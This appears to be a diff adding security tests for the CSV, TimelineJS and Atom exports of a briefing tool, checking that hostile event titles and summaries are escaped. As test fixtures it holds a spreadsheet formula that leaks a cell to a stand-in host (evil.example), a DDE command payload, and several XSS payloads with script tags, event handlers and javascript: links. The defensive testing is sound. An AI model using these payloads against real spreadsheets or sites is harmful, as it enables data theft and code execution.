@@ -1,0 +1,79 @@
+"""Exports escaped for their own syntax: CSV cells never start a formula, TimelineJS gets safe HTML, Atom is XML."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+from sitrep import load, select
+from sitrep.render import exports
+
+from ..conftest import MINI, edit
+
+EVENT_TITLE = "  title: Two Katyusha rockets hit Balad Airbase\n"
+
+
+def hostile(tmp_path: Path, title: str, extra: str = "") -> load.Loaded:
+    project = tmp_path / "project"
+    shutil.copytree(MINI, project)
+    edit(project / "content/events.yaml", EVENT_TITLE, f"  title: {json.dumps(title)}\n{extra}")
+    edit(project / "content/places.yaml", "lat: 33.94", "lat: -33.94")
+    edit(project / "content/events.yaml", "killed: {count: 0}", 'killed: {count: 0, note: "\\tstarts with a tab"}')
+    loaded = load.load_project(project)
+    assert not loaded.problems, loaded.problems
+    return loaded
+
+
+def csv_rows(loaded: load.Loaded) -> list[dict[str, str]]:
+    briefing = loaded.project.briefings["ed3"]
+    text = exports.events_csv(select.select(loaded.project, briefing), loaded.project)
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    for number, attack in enumerate(
+        ('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)")
+    ):
+        loaded = hostile(tmp_path / str(number), attack)
+        row = next(r for r in csv_rows(loaded) if r["event_id_cnty"] == "2019-12-05-balad-rockets")
+        assert row["notes"] == "'" + attack
+        assert row["fatalities_note"] == "'\tstarts with a tab"
+        assert row["latitude"] == "-33.9400"  # numbers stay numbers
+        assert row["fatalities"] == "0"
+
+
+def test_timelinejs_gets_escaped_titles_and_sanitised_summaries(tmp_path: Path) -> None:
+    summary = "  summary: 'Seen <b onclick=\"steal()\">here</b>, [link](javascript:steal()) and **bold**'\n"
+    loaded = hostile(tmp_path, "<script>steal()</script> & <img src=x onerror=steal()>", summary)
+    view = select.select(loaded.project, loaded.project.briefings["ed3"])
+    data = json.loads(exports.timelinejs(view))
+    event = next(e for e in data["events"] if e["unique_id"] == "2019-12-05-balad-rockets")
+    assert event["text"]["headline"] == "&lt;script&gt;steal()&lt;/script&gt; &amp; &lt;img src=x onerror=steal()&gt;"
+    assert (
+        event["text"]["text"]
+        == '<p>Seen <b>here</b>, <a rel="noopener noreferrer nofollow">link</a> and <strong>bold</strong></p>'
+    )
+
+
+def test_atom_feed_is_well_formed_xml_with_rendered_summaries(tmp_path: Path) -> None:
+    loaded = load.load_project(MINI)
+    briefing = loaded.project.briefings["ed1"]
+    hostile_briefing = briefing.model_copy(
+        update={
+            "title": "Rockets\x00 \x1b[31mand\ufffe militias",
+            "bluf": "**Attacks** rise; see [x](javascript:alert(1)) <script>x</script>",
+        }
+    )
+    feed = exports.atom([hostile_briefing])
+    root = ET.fromstring(feed)  # raises on a NUL or any character XML cannot hold
+    ns = {"a": "http://www.w3.org/2005/Atom"}
+    entry = root.find("a:entry", ns)
+    assert entry is not None
+    assert entry.findtext("a:title", namespaces=ns) == "Rockets [31mand militias (edition 1)"
+    summary = entry.find("a:summary", ns)
+    assert summary is not None and summary.get("type") == "html"
+    assert summary.text == '<p><strong>Attacks</strong> rise; see <a rel="noopener noreferrer nofollow">x</a> </p>'
